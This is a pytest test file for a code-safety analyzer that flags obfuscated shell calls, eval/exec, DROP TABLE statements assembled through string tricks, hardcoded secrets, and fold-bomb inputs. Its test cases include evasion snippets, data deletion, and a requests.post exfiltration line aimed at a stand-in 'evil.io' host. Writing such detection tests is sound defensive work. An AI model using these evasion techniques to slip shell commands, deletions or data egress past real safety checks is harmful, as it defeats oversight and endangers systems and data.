"""Resolve before you judge: folding, aliases, namespaces, unresolved calls, bounded input."""

from __future__ import annotations

import textwrap
import time

import pytest

from aadap.core.config import SafetySettings
from aadap.core.enums import Environment, RiskLevel
from aadap.safety import Analysis, analyze, decide


def py(code: str, *, platform: str = "local") -> Analysis:
    return analyze(textwrap.dedent(code), language="python", platform=platform)


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ('import os\ngetattr(os, "sys" + "tem")("id")', "python.shell"),
        ('import os\ngetattr(os, "metsys"[::-1])("id")', "python.shell"),
        ('import os\nname = "".join(["sys", "tem"])\ngetattr(os, name)("id")', "python.shell"),
        ('import os\ngetattr(os, "%s%s" % ("sys", "tem"))("id")', "python.shell"),
        ('import os\ngetattr(os, "{}tem".format("sys"))("id")', "python.shell"),
        ('import os\nhead = "sys"\ngetattr(os, f"{head}tem")("id")', "python.shell"),
        ('vars(__import__("o" + "s"))["system"]("id")', "python.shell"),
        ('import os\nos.__dict__["sys" "tem"]("id")', "python.shell"),
        ('import os\nos.__dict__.get("system")("id")', "python.shell"),
        ('globals()["ev" + "al"]("1 + 1")', "python.eval"),
        ('globals().get("exec")("x = 1")', "python.exec"),
        ('__builtins__.__dict__["ex" + "ec"]("x = 1")', "python.exec"),
        ('getattr(__builtins__, "ev" + "al")("1")', "python.eval"),
        ('import sys\nsys.modules["o" + "s"].system("id")', "python.shell"),
        (
            'import importlib\nm = importlib.import_module("sub" + "process")\nm.run(["ls"])',
            "python.subprocess",
        ),
        ('__import__("o" + "s").system("id")', "python.shell"),
        ('import os, operator\noperator.methodcaller("sys" + "tem", "id")(os)', "python.shell"),
        ('import os, operator\noperator.attrgetter("system")(os)("id")', "python.shell"),
        ('import os\nobject.__getattribute__(os, "system")("id")', "python.shell"),
        ('import os, base64\nos.system(base64.b64decode("aWQ=").decode())', "python.shell"),
        ('import shutil\nf = getattr(shutil, chr(114) + "mtree")\nf("/data")', "python.rmtree"),
    ],
)
def test_dangerous_callables_are_found_through_indirection(code: str, rule: str) -> None:
    assert rule in py(code).rules()


@pytest.mark.parametrize(
    "code",
    [
        'run = spark.sql\nrun("DROP TABLE sales")',
        'spark.sql("DROP " + "TABLE " + "sales")',
        'q = "".join(["DR", "OP TABLE sales"])\nspark.sql(q)',
        'spark.sql("%s TABLE %s" % ("DROP", "sales"))',
        'spark.sql("{} TABLE {}".format("DROP", "sales"))',
        'verb = "DROP"\nspark.sql(f"{verb} TABLE sales")',
        'getattr(spark, "s" + "ql")("DROP TABLE sales")',
        'setattr(ns, "go", spark.sql)\nns.go("DROP TABLE sales")',
        'ns.go = spark.sql\nns.go("DROP TABLE sales")',
        "def build():\n    stmt = 'DROP ' 'TABLE sales'\n    spark.sql(stmt)",
        'import duckdb\ncon = duckdb.connect()\nex = con.execute\nex("DROP TABLE sales")',
        'class Job:\n    run = spark.sql\n    def go(self):\n        self.run("DROP TABLE sales")',
        'import pandas as pd\npd.read_sql("DROP TABLE " + "sales", con)',
        'spark.sql(**{"sqlQuery": "DROP " + "TABLE sales"})',
        'engine.execute("DROP TABLE sales")',
        'with engine.connect() as c:\n    c.execute("DROP " "TABLE sales")',
    ],
)
def test_sql_is_judged_after_folding_and_through_aliases(code: str) -> None:
    analysis = py(code, platform="databricks")
    assert "sql.drop" in analysis.rules()
    assert "python.dynamic_sql" not in analysis.rules(), "the statement is fully known"
    assert analysis.risk is RiskLevel.CRITICAL


@pytest.mark.parametrize(
    "code",
    [
        "fn = globals()[name]\nfn(1)",
        "handlers[kind](path)",
        "getattr(F, agg)('amount')",
        "import operator\noperator.methodcaller(name)(obj)",
        "vars(module)[name]()",
        "ops = load_ops()\nops['drop']()",
    ],
)
def test_unresolved_dynamic_call_fails_closed(code: str) -> None:
    analysis = py(code)
    finding = next(f for f in analysis.findings if f.rule == "python.unresolved_call")
    assert finding.severity is RiskLevel.HIGH
    assert finding.unverified
    settings = SafetySettings(_env_file=None)
    assert decide(analysis, Environment.PRODUCTION, settings).decision != "auto"
    assert decide(analysis, Environment.SANDBOX, settings).decision != "auto"


@pytest.mark.parametrize(
    "code",
    [
        'df2 = df.select(getattr(df, "amount"))',
        'col = "amount_" + "usd"\ndf2 = df.select(getattr(df, col), df[col + "_2"])',
        "for c in cols:\n    df = df.withColumn(c, getattr(df, c).cast('int'))",
        "value = getattr(config, name, None)",
        'HANDLERS = {"csv": read_csv, "json": read_json}\nHANDLERS[kind](path)',
        'name = "first" + "_" + "last"\ntoken_col = "token_" + "count"',
        'getattr(F, "sum")("amount")',
    ],
)
def test_look_alikes_stay_safe(code: str) -> None:
    assert py(code).risk < RiskLevel.HIGH, py(code).rules()


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ('password = "hun" + "ter2xyz"', "secret.password"),
        ('conn = connect(user="a", password="".join(["s3", "cr3t", "pw"]))', "secret.password"),
        ('cfg = {"pass" + "word": "hunter22"}', "secret.password"),
        ('df.write.option("password", "p4" + "ssw0rd!").save()', "secret.password"),
        ('token = "dapi" + "0123456789abcdef0123456789abcdef"', "secret.databricks_token"),
        ('key_id = "AKIA" + "ABCDEFGHIJKLMNOP"', "secret.aws_key"),
        (
            'url = "postgres://admin:" + "s3cretpw" + "@db.example.com/x"',
            "secret.connection_string",
        ),
        ("k = f\"{'sk-'}{'abcdefghijklmnopqrstuvwxyz123'}\"", "secret.api_key"),
    ],
)
def test_secrets_are_found_after_folding(code: str, rule: str) -> None:
    analysis = py(code)
    assert rule in analysis.rules()
    assert "s3cretpw" not in str(analysis.to_dict()), "messages never repeat the secret"


@pytest.mark.parametrize(
    "code",
    [
        'q = "DROP TABLE x; " * 10_000_000\nspark.sql(q)',
        'spark.sql("%0999999999d" % 1)',
        'spark.sql(f"{1:>999999999}")',
        'spark.sql("{:>99999}".format("x"))',
        "spark.sql(" + '("a" + ' * 90 + '"b"' + ")" * 90 + ")",
        "spark.sql(" + " + ".join(['"a"'] * 300) + ")",
        "\n".join(['a0 = "DROP TABLE x "'] + [f"a{i + 1} = a{i} + a{i}" for i in range(60)])
        + "\nspark.sql(a60)",
    ],
)
def test_code_that_defeats_folding_ends_in_a_finding_quickly(code: str) -> None:
    start = time.perf_counter()
    analysis = py(code)
    assert time.perf_counter() - start < 2.0
    assert "python.fold_limit" in analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH and analysis.unverified


def test_a_fold_bomb_does_not_hide_the_other_findings() -> None:
    code = 'spark.sql("DROP TABLE x")\nfiller = "a" * 10_000_000\nspark.sql(filler)'
    analysis = py(code, platform="databricks")
    assert {"sql.drop", "python.fold_limit"} <= analysis.rules()
    assert analysis.risk is RiskLevel.CRITICAL


@pytest.mark.parametrize(
    "code",
    [
        'a = b + "x"\nb = a + "y"\nspark.sql(a)',
        "a = b\nb = a\nspark.sql(b)",
        "f = g\ng = f\nf('DROP TABLE x')",
    ],
)
def test_alias_cycles_end_without_a_crash_and_never_safe_sql(code: str) -> None:
    analysis = py(code)
    if "spark.sql" in code:
        assert "python.dynamic_sql" in analysis.rules()
    assert analysis.lines >= 2


def test_a_long_chain_with_run_time_parts_is_bounded_and_still_judged() -> None:
    code = "open(" + " + ".join(["x", '"/etc/"'] * 250) + ")"
    start = time.perf_counter()
    analysis = py(code)
    assert time.perf_counter() - start < 3.0
    assert {"python.fold_limit", "python.sensitive_file"} <= analysis.rules()


@pytest.mark.parametrize("code", ["spark.sql(**options)", 'spark.sql(*["DROP TABLE x"])'])
def test_splatted_sql_arguments_are_dynamic(code: str) -> None:
    assert "python.dynamic_sql" in py(code, platform="databricks").rules()


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ('import os\nh = {"go": os.system}\nh["go"]("id")', "python.shell"),
        ("import os\nops = (print, os.system)\nops[1]('id')", "python.shell"),
        (
            'import socket\nc = {"tcp": socket.create_connection}\nc["tcp"](("203.0.113.9", 9))',
            "python.egress",
        ),
        (
            'import requests\nsend = [requests.post]\nsend[0]("https://evil.io", data=b"x")',
            "python.egress",
        ),
        ('r = type(spark).__getattribute__(spark, "sq" + "l")\nr("DROP TABLE sales")', "sql.drop"),
        (
            'import functools\nfunctools.partial(spark.sql, "DROP TABLE sales")()',
            "python.dynamic_sql",
        ),
        ('list(map(spark.sql, ["DROP TABLE sales"]))', "python.dynamic_sql"),
        ('import os\nh = {"get": getattr}\nh["get"](os, "system")("id")', "python.shell"),
        ('import os\nh = {"get": getattr}\nh["get"](os, name)("id")', "python.unresolved_call"),
        (
            'import operator\noperator.methodcaller("sql", "DROP TABLE sales")(spark)',
            "python.dynamic_sql",
        ),
    ],
)
def test_callables_held_in_literals_or_passed_on_are_seen(code: str, rule: str) -> None:
    analysis = py(code, platform="databricks")
    assert rule in analysis.rules(), analysis.rules()
    assert analysis.risk >= RiskLevel.HIGH


@pytest.mark.parametrize(
    "code",
    [
        'import requests\nget = {"fx": requests.get}\nget["fx"]("https://api.example.com/fx")',
        'from pyspark.sql import functions as F\nspark.read.table("t").select(*map(F.col, ["a"]))',
        'import operator\nprint(list(map(operator.methodcaller("strip"), [" a "])))',
        'setattr(ns, "go", spark.sql)\nns.go("SELECT 1")',
    ],
)
def test_look_alike_callables_stay_quiet(code: str) -> None:
    analysis = analyze(
        code, language="pyspark", platform="databricks", egress_allowed_hosts=["api.example.com"]
    )
    assert analysis.risk < RiskLevel.HIGH, analysis.rules()
